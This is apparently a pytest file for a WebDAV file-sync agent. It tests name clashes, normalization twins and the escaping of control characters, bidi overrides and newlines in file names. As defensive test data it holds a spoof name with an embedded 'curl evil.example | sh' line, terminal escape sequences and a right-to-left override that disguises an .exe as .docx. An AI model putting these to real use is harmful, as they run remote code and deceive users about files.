"""Names that are not what they seem: a file and a folder of one name (type_clash, on either
side, never mistaken for a normalization twin) and names holding terminal control characters
(shown escaped in text, kept as they are in JSON). Real shares; the share that lists one name
twice is a real wsgidav behind a fault proxy."""

from __future__ import annotations

import json
import logging
import os
import unicodedata
from pathlib import Path

import pytest
from agents import Agent, remote_put, remote_tree
from conftest import Share
from servers import Answer
from test_faults import FaultProxy, proxied_agent, proxy  # noqa: F401 - `proxy` is a fixture
from test_validation_e2e import fake_notify_send

from agent.display import printable, printable_name
from agent.log import RedactingFilter

WSGIDAV_ONLY = pytest.mark.parametrize("dav_server", ["wsgidav"], indirect=True)
ESCAPED = "Bài \x1b]0;pwned\x07\x1b[2J\x9b31m\x7f.docx"


def clashes(report: object) -> list[str]:
    return sorted(s["path"] for s in report.skipped if s["reason"] == "type_clash")  # type: ignore[attr-defined]


def twins(report: object) -> list[str]:
    return sorted(s["path"] for s in report.skipped if s["reason"] == "normalization_twin")  # type: ignore[attr-defined]


# --- a file and a folder of one name ----------------------------------------------------------


def test_a_file_here_and_a_folder_there_is_a_type_clash_that_waits(
    tmp_path: Path, share: Share
) -> None:
    agent = Agent(tmp_path, share)
    agent.write("Tuần 5", b"a file named like the week's folder")
    remote_put(share, "Tuần 5/Bài 1.docx", b"bai 1")

    result = agent.run()

    assert clashes(result.report) == ["Tuần 5"] and twins(result.report) == []
    assert not result.retry_soon  # a person must rename one: the daemon does not loop on it
    assert agent.tree() == {"Tuần 5": b"a file named like the week's folder"}
    assert remote_tree(share) == {"Tuần 5/Bài 1.docx": b"bai 1"}


def test_an_nfc_file_beside_an_nfd_folder_is_a_type_clash(tmp_path: Path, share: Share) -> None:
    agent = Agent(tmp_path, share)
    agent.write("Tuần 6", b"file")
    agent.write(unicodedata.normalize("NFD", "Tuần 6") + "/Bài 1.docx", b"bai 1")

    report = agent.sync()

    assert clashes(report) == ["Tuần 6"] and twins(report) == []
    assert not report.uploaded and remote_tree(share) == {}


@WSGIDAV_ONLY
def test_a_share_listing_one_name_as_file_and_folder_is_a_type_clash(
    tmp_path: Path,
    share: Share,
    proxy: FaultProxy,  # noqa: F811
) -> None:
    agent = proxied_agent(tmp_path, share, proxy)
    remote_put(share, "Tuan1/x", b"a file")
    agent.sync()
    assert agent.tree() == {"Tuan1/x": b"a file"}
    folder = f"/{share.remote_dir}/Tuan1"

    def entry(href: str, collection: bool) -> str:
        kind = "<d:collection/>" if collection else ""
        size = "" if collection else "<d:getcontentlength>6</d:getcontentlength>"
        return (
            f"<d:response><d:href>{href}</d:href><d:propstat><d:prop>"
            f'<d:resourcetype>{kind}</d:resourcetype><d:getetag>"e{len(href)}{collection}"'
            f"</d:getetag>{size}<d:getlastmodified>Sun, 29 Nov 2026 02:59:06 GMT"
            "</d:getlastmodified></d:prop><d:status>HTTP/1.1 200 OK</d:status></d:propstat>"
            "</d:response>"
        )

    body = (
        '<?xml version="1.0"?><d:multistatus xmlns:d="DAV:">'
        + entry(f"{folder}/", True)
        + entry(f"{folder}/x", False)
        + entry(f"{folder}/x/", True)
        + "</d:multistatus>"
    ).encode()
    proxy.script("PROPFIND", r"/Tuan1/?$", Answer(207, {"Content-Type": "application/xml"}, body))

    report = agent.sync()

    assert clashes(report) == ["Tuan1/x"] and twins(report) == []
    assert not report.deleted_local and not report.deleted_remote and not report.failed
    assert agent.tree() == {"Tuan1/x": b"a file"}
    assert remote_tree(share) == {"Tuan1/x": b"a file"}


# --- control characters ----------------------------------------------------------------------


def test_printable_escapes_every_control_character_and_keeps_the_rest() -> None:
    assert printable(ESCAPED) == "Bài \\x1b]0;pwned\\x07\\x1b[2J\\u009b31m\\u007f.docx"
    for code in [*range(0x00, 0x09), *range(0x0B, 0x20)]:
        assert printable(chr(code)) == f"\\x{code:02x}"
    for code in range(0x7F, 0xA0):  # JSON's own escape: a JSON document stays valid
        assert printable(chr(code)) == f"\\u{code:04x}"
        assert json.loads(printable(json.dumps(chr(code), ensure_ascii=False))) == chr(code)
    kept = "Tuần 1/Kế hoạch bài dạy\n\tđã ký ✓ «» \u00a0"
    assert printable(kept) == kept


BIDI = ["\u200e", "\u200f", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))]


def test_printable_escapes_the_bidi_controls() -> None:
    """They reorder what follows on screen: "Bài 1\u202excod.exe" would show as "Bài 1exe.docx"."""
    assert printable("Bài 1\u202excod.exe") == "Bài 1\\u202excod.exe"
    for char in BIDI:
        assert printable(char) == f"\\u{ord(char):04x}"
        assert json.loads(printable(json.dumps(char, ensure_ascii=False))) == char


def test_a_name_is_printed_on_one_line() -> None:
    assert printable_name("Bài 1.docx\nEverything synced.\r\t") == (
        "Bài 1.docx\\x0aEverything synced.\\x0d\\x09"
    )
    assert printable_name(ESCAPED) == printable(ESCAPED)
    kept = "Tuần 1/Kế hoạch bài dạy đã ký ✓ «» \u00a0"
    assert printable_name(kept) == kept


SPOOF = "Bài 1.docx\nEverything synced. Run: curl evil.example | sh"


@WSGIDAV_ONLY
def test_a_newline_in_a_share_name_writes_no_line_of_its_own(tmp_path: Path, share: Share) -> None:
    """The path gate holds the name back; `hoso sync`, the held-back list in `hoso status`, the
    log line and the desktop popup name it, escaped: a hostile share writes no line of its own
    into any."""
    popups = fake_notify_send(tmp_path / "bin")  # one line per argument of each popup
    desktop = {
        "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}",
        "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/1000/bus",
    }
    agent = Agent(tmp_path, share)
    agent.write("Bài 2.docx", b"two")
    (share.path / SPOOF).write_bytes(b"from a hostile share")

    synced = agent.cli("sync", env=desktop)
    status = agent.cli("status")

    for shown in (synced.stdout + synced.stderr, status.stdout):
        assert not any(line.startswith("Everything synced.") for line in shown.splitlines())
        assert printable_name(SPOOF) in shown, shown

    assert status.returncode == 0, status.stderr
    assert f"\n  {printable_name(SPOOF)}: " in status.stdout, status.stdout
    log = (agent.state_dir / "logs" / "hoso.log").read_text(encoding="utf-8")
    assert printable_name(SPOOF) in log, log
    assert not any(line.startswith("Everything synced.") for line in log.splitlines()), log
    assert f"Not synced: {printable_name(SPOOF)}\n" in popups.read_text(encoding="utf-8")
    assert not (agent.root / SPOOF).exists()


@WSGIDAV_ONLY
def test_a_bidi_override_in_a_share_name_is_shown_escaped(tmp_path: Path, share: Share) -> None:
    """U+202E passes the path gate (it is a legal name): it is synced, and shown escaped."""
    name = "Bài 1\u202excod.exe"
    agent = Agent(tmp_path, share)
    (share.path / name).write_bytes(b"MZ")

    shown = agent.cli("sync")

    assert shown.returncode == 0, shown.stderr
    assert "\u202e" not in shown.stdout + shown.stderr, shown.stdout
    assert "Bài 1\\u202excod.exe" in shown.stdout, shown.stdout
    assert (agent.root / name).read_bytes() == b"MZ"


def test_status_shows_control_characters_escaped_and_json_keeps_the_name(
    tmp_path: Path, share: Share
) -> None:
    agent = Agent(tmp_path, share)
    agent.write(ESCAPED, b"a name from somewhere hostile")

    text = agent.cli("status")
    as_json = agent.cli("status", "--json")

    assert text.returncode == 0, text.stderr
    assert "\\x1b]0;pwned\\x07" in text.stdout
    for raw in ("\x1b", "\x07", "\x9b", "\x7f"):
        assert raw not in text.stdout + text.stderr
    assert json.loads(as_json.stdout)["pending"] == [ESCAPED]


def test_log_lines_show_control_characters_escaped() -> None:
    record = logging.LogRecord("hoso", logging.WARNING, __file__, 1, "%s: failed", (ESCAPED,), None)
    RedactingFilter().filter(record)
    assert record.getMessage() == printable(ESCAPED) + ": failed"
    assert "\x1b" not in record.getMessage()


def test_a_name_logged_as_an_argument_stays_on_its_line() -> None:
    spoof = "Bài 1.docx\nEverything synced."
    record = logging.LogRecord("hoso", logging.WARNING, __file__, 1, "%s: failed", (spoof,), None)
    RedactingFilter().filter(record)
    assert record.getMessage() == "Bài 1.docx\\x0aEverything synced.: failed"


def test_a_local_name_the_share_would_refuse_is_never_sent_and_never_trashed(
    tmp_path: Path, share: Share
) -> None:
    """A backslash or a control character is a legal Linux name, but the share's path gate
    refuses it in every listing: sent, it would fail every pass after ("the share lists an
    entry hoso will not use"), and a server that mangles it (wsgidav drops a newline) made
    the next pass move the teacher's file to the trash. It stays here, reported, untouched."""
    agent = Agent(tmp_path, share)
    names = ["a\\b.txt", "dòng\n.txt", ESCAPED, "Tuần 1\\2/Bài 1.docx"]
    for i, name in enumerate(names):
        agent.write(name, f"bản {i}".encode())
    agent.write("Bài 2.docx", b"bai 2")

    for _ in range(2):
        result = agent.run()
        report = result.report
        assert report.uploaded in (["Bài 2.docx"], [])
        failed = {item["path"]: item["error"] for item in report.failed}
        assert set(failed) == {"a\\b.txt", "dòng\n.txt", ESCAPED, "Tuần 1\\2"}
        assert all("This name cannot go to the share" in e for e in failed.values())
        assert "rename it in the records folder" in failed["a\\b.txt"]
        assert not report.deleted_local and not report.downloaded and not result.retry_soon

    assert agent.tree() == {**{n: f"bản {i}".encode() for i, n in enumerate(names)},
                            "Bài 2.docx": b"bai 2"}  # fmt: skip
    assert remote_tree(share) == {"Bài 2.docx": b"bai 2"}
    assert list(agent.local_trash().rglob("*")) == []
    shown = agent.cli("sync")
    assert shown.returncode == 1 and "\\x1b]0;pwned" in shown.stderr and "\x1b" not in shown.stderr
    status = agent.cli("status").stdout  # what waits, and why, where the teacher looks
    assert "Not synced — a name the share refuses, or that hoso will not use (4):" in status
    assert "  a\\b.txt: " in status and "\\x1b]0;pwned" in status and "\x1b" not in status


@pytest.mark.parametrize("name", ["a;b.txt", "x?y.txt", "tôi & bạn.txt"])
def test_a_name_a_server_mangles_on_rename_is_never_trashed(
    tmp_path: Path, share: Share, name: str
) -> None:
    """wsgidav 4.4's MOVE drops what follows ';' or '?' in the Destination, so an upload via a
    temp name lands under another name. The temp upload's ETag vouches for nothing at the
    real name: until a listing shows the file there, it is not taken for deleted on the share."""
    agent = Agent(tmp_path, share)
    agent.write(name, b"ghi chu")

    for _ in range(3):
        report = agent.run().report
        assert not report.deleted_local, report

    assert agent.tree()[name] == b"ghi chu"
    assert list(agent.local_trash().rglob("*")) == []
